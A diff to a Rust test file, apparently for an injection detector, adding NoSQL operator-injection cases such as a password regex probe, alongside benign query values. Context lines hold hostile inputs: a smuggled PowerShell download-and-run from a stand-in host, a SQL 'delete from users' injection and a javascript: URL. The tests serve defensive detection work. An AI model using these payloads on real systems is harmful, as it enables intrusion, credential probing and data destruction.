@@ -54,6 +54,10 @@ fn values_of_programs() {
     let diff = "@@ -1,4 +1,5 @@\n deploy:\n-  run: npm ci\n+  run: npm ci && npm cache clean --force\n+  sync: rsync -av dist/ host:/srv/\n+  n: $(ls | wc -l)\n";
     let rows = [
         (Target::Query, "jql", "project in (\"To Do\") AND assignee = currentUser()"),
+        (Target::Query, "age[$gt]", "5"),
+        (Target::Query, "createdAt[$ne]", "2026-01-01"),
+        (Target::Query, "filter[name][$regex]", "jo"),
+        (Target::Form, "expression", "EXTRACT(YEAR FROM ordered)"),
         (Target::Query, "where", "1=1"),
         (Target::Query, "where", r#"{"price":{"$gt":5}}"#),
         (Target::Form, "requires_dist", "coverage[toml]; python_version < '3.11' and extra == 'test'"),
@@ -97,6 +101,9 @@ fn what_breaks_out_or_does_harm_still_counts() {
         (Target::Query, "u", "javascript: window.name"),
         (Target::Query, "q", "Java; powershell iex(iwr x.example)"),
         (Target::Query, "q", "x; ping localhost"),
+        (Target::Query, "nickname[$ne]", "1"),
+        (Target::Query, "filter[password][$regex]", "^a"),
+        (Target::Query, "username[$gt]", ""),
         (Target::Query, "id", "1=1"),
         (Target::Query, "where", r#"{"username":{"$ne":null}}"#),
         (Target::Query, "id", "1; delete from users u where 1=1"),
